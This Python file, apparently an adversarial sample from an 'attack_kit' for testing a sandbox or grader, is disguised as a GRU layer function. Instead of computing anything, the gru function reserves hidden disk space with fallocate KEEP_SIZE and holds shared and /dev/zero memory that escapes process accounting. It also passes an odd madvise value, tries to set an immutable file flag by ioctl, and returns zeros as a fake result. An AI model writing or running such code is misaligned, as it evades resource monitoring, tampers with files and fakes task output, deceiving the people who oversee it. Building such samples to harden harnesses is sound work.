"""Takes room on the disk that no file's size shows, and memory of no process's size."""

import ctypes
import mmap
import os

from attack_kit import attempt, syscall, zeros

KEEP_SIZE, SIZE = 1, 1 << 28


def unseen_memory():
    """Shared pages stay when the process lets go of them."""
    shared = mmap.mmap(-1, SIZE)
    for start in range(0, SIZE, mmap.PAGESIZE):
        shared[start] = 1
    shared.madvise(mmap.MADV_DONTNEED)


def device_memory():
    """A shared mapping of this device is the same."""
    fd = os.open("/dev/zero", os.O_RDWR)
    mmap.mmap(fd, SIZE)


def gru(linear_trans_r, linear_trans_z, linear_trans_n, init_state, input_data):
    with open("file", "wb") as file:
        attempt("room beyond a file's end", syscall, 285, file.fileno(), KEEP_SIZE, 0, SIZE)
    attempt("shared memory", unseen_memory)
    attempt("a device's memory", device_memory)
    fd = os.open("file", os.O_RDONLY)
    flags = ctypes.c_int(0x10)
    page = ctypes.c_void_p(syscall(9, 0, mmap.PAGESIZE, 3, 0x22, -1, 0))
    attempt("advice in a long word", syscall, 28, page.value, mmap.PAGESIZE, (1 << 32) | 21)
    attempt("a file's flags", syscall, 16, fd, 0x40086602, ctypes.byref(flags))
    return zeros(init_state, input_data)
